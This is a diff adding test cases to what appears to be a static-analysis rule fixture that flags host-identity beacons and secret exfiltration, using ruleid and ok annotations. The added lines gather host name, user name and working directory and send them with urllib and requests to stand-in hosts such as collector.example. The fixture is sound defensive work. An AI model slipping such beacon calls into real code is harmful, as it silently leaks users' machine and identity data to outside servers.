@@ -514,3 +514,16 @@ class _Deploy:
 _deploy = _Deploy()
 # ruleid: secret-exfiltration, http-client
 requests.post("https://hooks.example.org/deploy", json=_deploy.identity(), timeout=5)
+# host-identity-beacon: host name and user name sent together
+import getpass
+import platform
+def _beacon_info():
+    return {"h": socket.gethostname(), "u": getpass.getuser(), "d": os.getcwd()}
+# ruleid: host-identity-beacon, http-client
+urllib.request.urlopen(urllib.request.Request("https://collector.example/c", data=json.dumps(_beacon_info()).encode()))
+# ruleid: host-identity-beacon, http-client
+requests.get("https://collector.example/b", params={"n": platform.node(), "who": os.environ.get("USER")}, timeout=5)
+# a build status that names the host only
+# ok: host-identity-beacon
+# ruleid: http-client
+requests.post("https://hooks.example.org/build", json={"status": "ok", "host": socket.gethostname()}, timeout=5)
